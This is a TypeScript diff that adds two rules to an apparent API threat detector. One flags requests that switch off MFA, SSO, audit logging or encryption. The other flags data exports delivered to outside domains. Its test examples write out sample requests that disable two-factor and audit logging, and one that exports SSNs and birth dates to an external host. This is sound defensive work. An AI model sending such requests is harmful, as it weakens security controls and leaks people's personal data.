@@ -152,9 +152,72 @@ export function identityColumnsPulled(v: ApiView): ApiEffect | null {
   return cols.length === 0 ? null : { detail: `whole-table query for ${cols.slice(0, 3).join(', ')}`, score: 5 };
 }
 
-export const API_ACT_PATTERNS: readonly RegExp[] = [FIELD_SPLIT, SMALL_LIMIT, YEARS, DAYS, LONG, /^https?:\/\/([a-z0-9.-]{1,253})/, /(?:amount|price|balance|total|value|quantity|stock):(?:0|0\.0+|null)[,}]/];
+/**
+ * A security requirement set off in the body, whatever the request's shape (a REST field, a GraphQL input, a JSON-RPC
+ * param): MFA, single sign-on, audit logging, encryption.
+ */
+const GUARD_FLAG_OFF = /(?:require_?|enforce_?|enable_?|is_?)?(?:mfa|2fa|two_?factor|multi_?factor|sso|audit_?log|auditlog|audit_?logging|logging|encryption|dlp)(?:_?(?:required|enforced|enabled|enforcement))?:(?:false|off|disabled|none|0)(?![a-z0-9])/;
+export function guardFlagOff(v: ApiView): ApiEffect | null {
+  if (!writes(v) && !v.head.includes('mutation')) return null;
+  const flat = compactView(v);
+  // the flag is a key of its own ("debug_logging": false switches off no control)
+  for (let from = 0, n = 0; from < flat.length && n < 8; n++) {
+    const m = GUARD_FLAG_OFF.exec(flat.slice(from));
+    if (m === null) return null;
+    const at = from + m.index;
+    const before = at === 0 ? '{' : flat[at - 1]!;
+    if (before === '{' || before === ',' || before === '(' || before === '[') return { detail: `${m[0]} in the request`, score: 7 };
+    from = at + m[0].length;
+  }
+  return null;
+}
+
+/** The operation named in the body: a JSON-RPC method or a GraphQL mutation that exports or dumps. */
+const BODY_EXPORT = /(?:method:|mutation[{(]?|action:)[a-z0-9_./-]{0,60}(?:export|dump|extract|backup|download)/;
+const DELIVERY = /(?:deliver_?to|destination|target_?url|upload_?url|export_?to|output_?url|push_?to|send_?to|callback_?url|webhook_?url):(?:[a-z]{2,8}):\/\/([a-z0-9.-]{1,253})/;
+const registrable = (host: string): string => host.split('.').slice(-2).join('.');
+/** An export named in the body (not the path) delivered to a host of another domain, with identity fields in it. */
+export function bodyExportOut(v: ApiView): ApiEffect | null {
+  const flat = compactView(v);
+  const op = BODY_EXPORT.exec(flat);
+  if (op === null) return null;
+  const d = DELIVERY.exec(flat);
+  if (d === null) return null;
+  const host = d[1]!;
+  if (registrable(host) === registrable(v.host) || /^(?:10|127|192\.168|172\.(?:1[6-9]|2[0-9]|3[01]))\./.test(host)) return null;
+  const fields = flat.split(FIELD_SPLIT).filter((c) => IDENTITY_COLUMNS.some((w) => c.startsWith(w)));
+  const what = fields.length > 0 ? fields.slice(0, 3).join(', ') : sensitiveClass(flat.slice(0, 600));
+  if (what === '' || what.startsWith('named')) return null;
+  return { detail: `${op[0].split(':').pop()} with ${what} delivered to ${host}`, score: 8 };
+}
+
+export const API_ACT_PATTERNS: readonly RegExp[] = [GUARD_FLAG_OFF, BODY_EXPORT, DELIVERY, /^(?:10|127|192\.168|172\.(?:1[6-9]|2[0-9]|3[01]))\./, FIELD_SPLIT, SMALL_LIMIT, YEARS, DAYS, LONG, /^https?:\/\/([a-z0-9.-]{1,253})/, /(?:amount|price|balance|total|value|quantity|stock):(?:0|0\.0+|null)[,}]/];
 
 export const API_ACT_RULES: ThreatRule<EffectContext & BaseContext>[] = [
+  {
+    id: 'A59',
+    name: 'Security requirement switched off in the request body (REST, GraphQL or JSON-RPC)',
+    primitive: 'ESCALATION',
+    score: 7,
+    keywords: ['mfa', '2fa', 'twofactor', 'two_factor', 'multifactor', 'multi_factor', 'sso', 'audit', 'logging', 'encryption', 'dlp'],
+    detect: (ctx) => (ctx.env === 'nonprod' ? undefined : firstEffect(ctx.views, guardFlagOff)),
+    examples: {
+      flag: [{ value: 'mutation { updateOrganizationSettings(input:{requireTwoFactor:false}) { ok } }', metadata: { endpoint: 'https://api.acme-saas.com/graphql' } }, 'PATCH https://api.acme.com/v1/org {"sso_enforced": false, "audit_logging": "off"}'],
+      pass: [{ value: 'mutation { updateOrganizationSettings(input:{requireTwoFactor:true}) { ok } }', metadata: { endpoint: 'https://api.acme-saas.com/graphql' } }, 'PATCH https://api.acme.com/v1/users/42 {"marketing_emails": false}', 'PATCH https://api.acme.com/v1/services/checkout {"debug_logging": false}'],
+    },
+  },
+  {
+    id: 'A60',
+    name: 'Export named in the request body delivered to another domain with identity fields',
+    primitive: 'EXFILTRATION',
+    score: 8,
+    keywords: ['export', 'dump', 'extract', 'backup', 'download'],
+    detect: (ctx) => firstEffect(ctx.views, bodyExportOut),
+    examples: {
+      flag: [{ value: '{"jsonrpc":"2.0","method":"users.export","params":{"fields":["email","ssn","dob"],"limit":1000000,"deliver_to":"https://dl.datavault-share.io/up"}}', metadata: { url: 'https://rpc.acme.com/' } }],
+      pass: [{ value: '{"jsonrpc":"2.0","method":"users.export","params":{"fields":["email","ssn"],"deliver_to":"https://files.acme.com/exports/"}}', metadata: { url: 'https://rpc.acme.com/' } }, { value: '{"jsonrpc":"2.0","method":"orders.export","params":{"fields":["sku","qty"],"deliver_to":"https://dl.partner-logistics.io/in"}}', metadata: { url: 'https://rpc.acme.com/' } }],
+    },
+  },
   {
     id: 'A58',
     name: 'Identity columns pulled from a whole table through a query API',
